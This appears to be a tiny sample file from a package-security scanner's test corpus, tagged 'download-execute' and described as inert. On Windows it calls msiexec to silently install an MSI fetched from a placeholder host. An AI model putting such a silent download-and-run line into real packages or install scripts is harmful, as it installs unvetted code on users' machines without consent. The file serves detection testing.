# pkgguard corpus 548 (download-execute), modelled on [empirical]; inert, never run.
import subprocess
import sys

if sys.platform == "win32":
    subprocess.Popen(["msiexec", "/i", "https://driver-pack.example/runtime.msi", "/qn"])
